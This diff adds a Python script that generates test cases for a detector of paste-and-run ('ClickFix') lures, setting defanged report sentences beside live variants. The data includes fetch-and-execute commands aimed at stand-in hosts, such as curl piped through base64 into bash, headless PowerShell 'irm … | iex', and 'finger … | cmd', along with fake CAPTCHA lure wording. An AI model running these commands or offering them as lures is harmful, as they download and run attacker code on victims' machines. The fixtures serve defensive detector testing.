@@ -1,0 +1,152 @@
+"""Writes tests/data/cases/b22fix.jsonl: the kinds of text BLIND-22's misses stand for (helper
+"b22fix", 2026-12-07 late night), written here from general knowledge of such texts, each beside
+look-alikes on the other side that must keep their level.
+
+    python tests/data/cases/make_b22fix.py
+
+Deterministic. Invented hosts are reserved names (*.test, *.example, *.invalid) and documentation
+addresses, phone numbers are made-up 555 ones; no blind set's text, lure collection or other
+detector's fixture is copied. Each line is {id, text, expect, technique, platform, source, target}.
+
+By kind:
+
+- `prose-pipe-switch`: a report's sentence naming a pipe with a switch before it ("a blob piped to
+  base64 -d | bash. The decoded stage …", "curl's output through gunzip -c | sh"): the words
+  before the pipe start with no program, so a shell fails on them whatever their switches, and
+  the shell after the pipe is given plain words (prose._phrase_pipe). A live `… | base64 -d |
+  bash` with an address stays blocked.
+- `single-quoted-sample`: a triage note quoting a defanged lure in single quotes ("RunMRU shows
+  'conhost --headless powershell … irm hxxps://…[.]top/r | iex' at 10:02"): a sample set apart
+  as double quotes set it (prose._QUOTED), and the quoted hidden window is weighed as a
+  sentence weighs it, since nothing it starts can fetch (engine, the write-up's live score). A
+  live address in the same quotes, or the same words pasted in a terminal, stay flagged.
+- `record-no-address`: a detection note or alert summary in `Field: value` lines naming a
+  technique's command with no address (`- Child: conhost.exe --headless powershell.exe`): an
+  analyst's record (records.py) starts no program. A record line holding a live address, and a
+  command on a line of its own under a heading, stay flagged.
+- `defanged-host-sample`: a report quoting in double quotes a command whose only host is
+  written defanged (`"finger gate@198.51.100[.]20 | cmd"`, `"nslookup -q=txt x relay[.]test"`):
+  no program resolves such a name. The live host in the same sentence stays flagged.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py
+
+OUT = Path(__file__).with_name("b22fix.jsonl")
+RUN = "run_dialog"
+TERMINAL = "terminal"
+OTHER = "other"
+UNKNOWN = "unknown"
+BLOG = "https://research.harbor-sec.example/posts/clickfix-macos"
+WIKI = "https://wiki.soc.example/detections/2026-12"
+TICKET = "https://tickets.corp.example/browse/SEC-4410"
+LURE_PAGE = "https://captcha-check.invalid/verify"
+
+
+def writing(book: Book) -> None:
+    tech = "prose-pipe-switch"
+    for text in (
+        "macOS lures tell the visitor to open Terminal and paste a long blob piped to base64 -d "
+        "| bash. The second stage asks for the login password in a dialog.",
+        "The fake update page hands over a line that sends a compressed blob through gunzip -c | "
+        "sh, and the script then installs a launch agent.",
+        "Operators paste an encoded string that is decoded with openssl base64 -d -A | zsh on the "
+        "victim's Mac.",
+        "Laut Bericht lässt die Seite einen langen Text mit base64 --decode | bash starten.",
+        "Analysts saw the payload decoded by xxd -r -p | sh before the stealer was launched.",
+        "Victims were told to copy a blob and decode it with base64 -D | bash, which fetched "
+        "the stealer from a rotating domain.",
+    ):
+        book.add(tech, text, "not_flagged", "any", UNKNOWN, BLOG)
+    for text, expect, target in (
+        ("curl -s https://blob-relay.invalid/p | base64 -d | bash", "malicious", TERMINAL),
+        ("echo Y3VybCAtcyBodHRwczovL2JhZC5pbnZhbGlkL3ggfCBzaA== | base64 -d | bash",
+         "malicious", TERMINAL),
+        ("To finish, paste this: curl -s https://blob-relay.invalid/p | base64 -D | bash",
+         "malicious", TERMINAL),
+    ):  # fmt: skip
+        book.add(tech, text, expect, "any", target, LURE_PAGE)
+
+    tech = "single-quoted-sample"
+    for text in (
+        "Triage: RunMRU on WS-0417 shows 'conhost --headless powershell … irm hxxps://…[.]top/r "
+        "| iex' at 09:12. EDR blocked the child process. Closing as contained.",
+        "Host LT-HR-0099 ran 'powershell -w h -c iwr hxxps://verify-cdn[.]test/c | iex' from the "
+        "Run dialog. Password reset done, no persistence found.",
+        "The user pasted 'mshta hxxps://check-human[.]invalid/v.hta' after a fake CAPTCHA; the "
+        "proxy blocked the fetch and the laptop was reimaged.",
+        "Summary: the page copied 'conhost.exe --headless cmd /c curl hxxp://203.0.113[.]9/a "
+        "-o %TEMP%\\a.cmd' to the clipboard. No execution observed.",
+        "Incident 5512: RunMRU holds ‘powershell -nop -w hidden -c iex(irm hxxps://cdn-fix[.]"
+        "example/s)’ at 14:31, blocked by ASR, ticket closed.",
+    ):
+        book.add(tech, text, "not_flagged", "windows", UNKNOWN, TICKET)
+    for text, expect, target in (
+        ("Verify you are human: 'conhost --headless powershell -c irm https://cdn-fix.invalid/r "
+         "| iex'", "malicious", RUN),
+        ("Triage: RunMRU on WS-0417 shows 'conhost --headless powershell … irm hxxps://…[.]top/r "
+         "| iex' at 09:12. EDR blocked the child process.", "suspicious", TERMINAL),
+        ("Host LT-HR-0099 ran 'powershell -w h -c iwr https://verify-cdn.test/c | iex' from the "
+         "Run dialog.", "flagged", UNKNOWN),
+        ("Press Win+R, paste 'conhost --headless powershell -c irm hxxps://cdn-fix[.]test/r | "
+         "iex' and press Enter to verify you are human.", "suspicious", UNKNOWN),
+    ):  # fmt: skip
+        book.add(tech, text, expect, "windows", target, TICKET if target != RUN else LURE_PAGE)
+
+    tech = "record-no-address"
+    for text in (
+        "- Parent: explorer.exe\n- Child: conhost.exe --headless powershell.exe\n"
+        "- Network: outbound within 10s\nVerdict: likely ClickFix, escalate",
+        "Rule: headless console host\nProcess: conhost.exe --headless cmd.exe /c\n"
+        "Severity: high\nAction: alert",
+        "Alert 7781\nParent: explorer.exe\nCommandLine: mshta.exe vbscript:Execute(...)\n"
+        "Status: blocked by ASR",
+        "- Technique: T1564.003\n- Example: conhost --headless powershell -nop\n"
+        "- Detection: parent explorer.exe, child conhost.exe",
+        "Hunt note:\n- Image: rundll32.exe\n- CommandLine: rundll32.exe javascript:... \n"
+        "- Result: 0 hits in 30 days",
+    ):
+        book.add(tech, text, "not_flagged", "windows", UNKNOWN, WIKI)
+    for text, expect, target in (
+        ("Parent: explorer.exe\nconhost.exe --headless powershell -c irm "
+         "https://cdn-fix.invalid/r | iex", "malicious", UNKNOWN),
+        ("- Parent: explorer.exe\n- Child: conhost.exe --headless powershell.exe",
+         "flagged", RUN),
+    ):  # fmt: skip
+        book.add(tech, text, expect, "windows", target, WIKI)
+
+    tech = "defanged-host-sample"
+    for text in (
+        'Observed command (defanged): cmd /c "finger gate@198.51.100[.]20 | cmd" — finger.exe '
+        "pulls a batch script from the operator's finger daemon, which cmd then runs.",
+        'The lure copies "nslookup -q=txt stage.relay-dns[.]test 203.0.113[.]53" and pipes the '
+        "answer into PowerShell, per the vendor's write-up.",
+        'We saw "finger.exe upd@relay-node[.]invalid" in RunMRU on two hosts; both were isolated '
+        "before the second stage ran.",
+        'Researchers describe "cmd /c finger vx@ops-stage[.]example | more +2 | cmd" as the '
+        "newest variant of the campaign.",
+        'In the sample the page stages "nslookup -type=txt cfg.dns-stage[.]invalid" before it '
+        "runs the answer, according to the report.",
+    ):
+        book.add(tech, text, "not_flagged", "windows", UNKNOWN, BLOG)
+    for text, expect, target in (
+        ('Observed command: cmd /c "finger gate@relay-node.invalid | cmd" on the host.',
+         "flagged", UNKNOWN),
+        ('cmd /c "finger gate@198.51.100.20 | cmd"', "malicious", RUN),
+    ):  # fmt: skip
+        book.add(tech, text, expect, "windows", target, BLOG if target != RUN else LURE_PAGE)
+
+
+def build() -> list[dict[str, str]]:
+    book = Book("b22f")
+    writing(book)
+    return book.cases
+
+
+CASES = build()
+
+if __name__ == "__main__":
+    write(OUT, CASES)
